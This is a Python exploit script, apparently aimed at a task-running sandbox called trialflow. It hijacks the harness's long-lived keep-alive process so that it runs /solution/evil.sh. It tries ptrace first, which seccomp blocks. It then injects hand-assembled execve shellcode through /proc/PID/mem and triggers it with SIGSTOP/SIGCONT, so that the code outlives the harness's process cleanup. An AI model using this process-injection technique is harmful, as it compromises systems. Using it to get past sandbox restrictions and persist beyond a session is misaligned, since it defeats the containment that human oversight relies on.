"""Take over the keep-alive (the engine init's oldest child, spared by stop_processes) so that
it runs /solution/evil.sh. First ptrace (denied by trialflow's seccomp profile), then without
the ptrace syscall at all: code written through /proc/PID/mem at the instruction the sleeping
process re-executes after SIGSTOP/SIGCONT (the kernel restarts an interrupted sleep by
stepping back onto its `syscall` instruction). Prints what happened as JSON."""

import ctypes
import errno
import json
import os
import signal
import struct
import time

out = {}
kids = [int(k) for k in open("/proc/1/task/1/children").read().split()]
age = {k: int(open(f"/proc/{k}/stat").read().rsplit(")", 1)[1].split()[19]) for k in kids}
pid = min(kids, key=age.get)
out["keepalive"] = open(f"/proc/{pid}/cmdline").read().replace("\0", " ")

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
if libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH
    out["ptrace"] = "attached"
    os.waitpid(pid, 0)
    libc.ptrace(17, pid, None, None)  # PTRACE_DETACH: the /proc route below does the rest
else:
    out["ptrace"] = errno.errorcode.get(ctypes.get_errno(), "?")

# execve("/bin/sh", ["/bin/sh", "/solution/evil.sh", NULL], NULL), position independent.
sh, script = b"/bin/sh\0", b"/solution/evil.sh\0"
code = (
    b"\x48\x8d\x3d"
    + struct.pack("<i", 29 - 7)  # lea rdi, [rip+sh]
    + b"\x31\xd2"  # xor edx, edx
    + b"\x52"  # push rdx
    + b"\x48\x8d\x05"
    + struct.pack("<i", 29 + len(sh) - 17)  # lea rax, [rip+script]
    + b"\x50\x57"  # push rax; push rdi
    + b"\x48\x89\xe6"  # mov rsi, rsp
    + b"\xb8\x3b\x00\x00\x00"  # mov eax, 59 (execve)
    + b"\x0f\x05"  # syscall
    + sh
    + script
)
try:
    pc = int(open(f"/proc/{pid}/syscall").read().split()[-1], 16)
    with open(f"/proc/{pid}/mem", "r+b", buffering=0) as mem:
        mem.seek(pc - 2)
        mem.write(code)
    os.kill(pid, signal.SIGSTOP)
    time.sleep(0.2)
    os.kill(pid, signal.SIGCONT)
    time.sleep(0.5)
    out["procmem"] = open(f"/proc/{pid}/cmdline").read().replace("\0", " ")
except OSError as e:
    out["procmem"] = f"error {type(e).__name__}: {e}"
print(json.dumps(out))
